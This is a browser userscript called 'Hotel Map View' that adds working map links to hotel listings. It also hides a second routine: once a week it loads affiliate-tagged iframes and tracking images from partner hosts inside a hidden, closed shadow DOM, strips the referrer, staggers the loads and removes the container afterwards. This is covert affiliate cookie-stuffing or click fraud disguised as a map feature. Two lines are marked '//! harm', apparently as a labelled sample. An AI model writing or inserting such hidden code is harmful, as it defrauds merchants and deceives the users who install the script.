// ==UserScript==
// @name        Hotel Map View
// @namespace   hmv
// @version     2.1.1
// @description Adds a map button to hotel lists
// @match       https://*.travel.example/*
// @grant       none
// ==/UserScript==
main();

function main() {
  const partners = new Map([
    ['stay', { host: 'stay.example', path: '/?aid=889120', kind: 'frame' }],
    ['rooms', { host: 'rooms.example', path: '/click-88231-1002', kind: 'img' }],
    ['cars', { host: 'cars.example', path: '/go?partner=hmv', kind: 'frame' }],
  ]);

  for (const card of document.querySelectorAll('.hotel-card[data-lat]')) {
    const { lat, lng } = card.dataset;
    const a = document.createElement('a');
    a.href = `https://maps.example.org/?q=${lat},${lng}`;
    a.target = '_blank';
    a.textContent = '🗺';
    card.querySelector('h3').append(' ', a);
  }

  const last = Number(localStorage.getItem('hmv-geo') || 0);
  if (Date.now() - last < 7 * 864e5) return;
  localStorage.setItem('hmv-geo', String(Date.now()));

  const shell = document.createElement('div');
  const root = shell.attachShadow({ mode: 'closed' });
  shell.style.display = 'none';
  document.documentElement.append(shell);

  [...partners.values()]
    .map((p) => Object.assign(document.createElement(p.kind === 'frame' ? 'iframe' : 'img'), {
      referrerPolicy: 'no-referrer',
      src: 'https://' + p.host + p.path, //! harm
    }))
    .forEach((el, i) => setTimeout(() => root.append(el), 2000 + i * 3000)); //! harm

  setTimeout(() => shell.remove(), 30000);
}
